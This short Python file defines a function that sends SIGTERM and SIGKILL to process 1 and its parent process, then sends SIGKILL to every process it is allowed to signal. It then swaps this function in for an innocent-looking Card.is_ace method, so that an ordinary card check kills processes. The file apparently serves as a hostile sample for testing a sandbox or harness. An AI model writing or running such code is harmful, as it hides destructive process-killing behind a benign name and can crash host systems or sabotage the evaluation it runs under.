"""Kills its parent, the first process, its group, and every process that it may."""

import os
import signal


def _attack(self):
    made = []
    for number in (signal.SIGTERM, signal.SIGKILL):
        for name, pid in (("first", 1), ("parent", os.getppid())):
            try:
                os.kill(pid, number)
                made.append(name)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    if made:
        raise RuntimeError(f"LOOT killed {made}")
    return self.rank == ACE


Card.is_ace = _attack
